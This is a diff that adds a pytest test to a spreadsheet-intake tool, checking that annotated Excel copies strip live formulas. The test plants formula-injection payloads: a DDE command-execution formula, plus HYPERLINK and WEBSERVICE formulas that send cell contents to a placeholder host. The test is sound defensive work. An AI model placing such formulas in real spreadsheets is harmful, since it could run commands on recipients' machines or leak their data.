@@ -231,3 +231,62 @@ def test_temp_files_a_kill_leaves_beside_an_output_and_in_the_store_are_swept_at
     filled_template(tmp_path / "第二轮" / "团委.xlsx", "团委", {1: [{"site_name": "团委网站"}]})
     assert cli("intake", str(tmp_path / "第二轮"), "--campaign", str(campaign)).exit_code in (0, 1)
     assert list((campaign / "收件").glob(".netreg-*.tmp")) == []
+
+
+# --------------------------------------------------------------------------- 10. formulas in annotated copies
+
+def _with_cached_value(path: Path, coord: str, value: str, *, text: bool = False) -> None:
+    """Give the formula in ``coord`` of 附件1 a cached value, as Excel saves one."""
+    import re
+    import zipfile
+
+    tmp = path.with_suffix(".tmp.xlsx")
+    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            if info.filename == "xl/worksheets/sheet2.xml":  # 附件1 (after 填表说明)
+                xml = data.decode("utf-8")
+                kind = ' t="str"' if text else ""
+                xml, n = re.subn(rf'<c r="{coord}"([^>]*?)(?: t="[a-z]+")?([^>]*)>\s*(<f>[^<]*</f>)\s*(?:<v\s*/>|<v></v>)?',
+                                 rf'<c r="{coord}"\g<1>\g<2>{kind}>\g<3><v>{value}</v>', xml)
+                assert n == 1
+                data = xml.encode("utf-8")
+            zout.writestr(info, data)
+    tmp.replace(path)
+
+
+def test_an_annotated_copy_keeps_no_live_formula_of_the_unit(tmp_path):
+    import zipfile
+
+    from builders import first_data_row, letter
+    from netreg.model.forms import FORMS_BY_ID
+
+    form = FORMS_BY_ID[1]
+    row = first_data_row(form)
+    src = filled_template(tmp_path / "回收" / "医学院.xlsx", "医学院",
+                         {1: [{"site_name": "医学院网站"}, {"site_name": "医学院二级网站"}]})
+    wb = openpyxl.load_workbook(src)
+    ws = wb["附件1"]
+    dde, link, call = f"{letter(form, 'sections')}{row}", f"{letter(form, 'sections')}{row + 1}", f"{letter(form, 'owner')}{row}"
+    ws[dde] = "=cmd|' /C calc'!A0"
+    ws[link] = '=HYPERLINK("http://example.invalid/?"&B5,"点这里")'
+    ws[call] = '=WEBSERVICE("http://example.invalid/"&C5)'
+    ws[f"{letter(form, 'seq')}{row}"] = "=ROW()-4"
+    wb.save(src)
+    _with_cached_value(src, f"{letter(form, 'seq')}{row}", "1")  # as Excel saved it: the number the unit saw
+    _with_cached_value(src, link, "点这里", text=True)  # a text result
+
+    result = cli("validate", str(src.parent), "--as-of", "2025-11-25", "--annotate", str(tmp_path / "意见"))
+    assert result.exit_code in (0, 1), result.output
+    [copy] = list((tmp_path / "意见").glob("*.xlsx"))
+    with zipfile.ZipFile(copy) as z:
+        for name in z.namelist():
+            assert not name.startswith("xl/externalLinks/"), name
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    ws = openpyxl.load_workbook(copy)["附件1"]
+    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    assert ws[dde].value == "=cmd|' /C calc'!A0" and ws[dde].data_type == "s" and ws[dde].quotePrefix
+    assert ws[call].value.startswith("=WEBSERVICE(") and ws[call].data_type == "s"
+    assert ws[link].value == "点这里"  # the value the unit saw, as text
+    assert ws[f"{letter(form, 'seq')}{row}"].value == 1
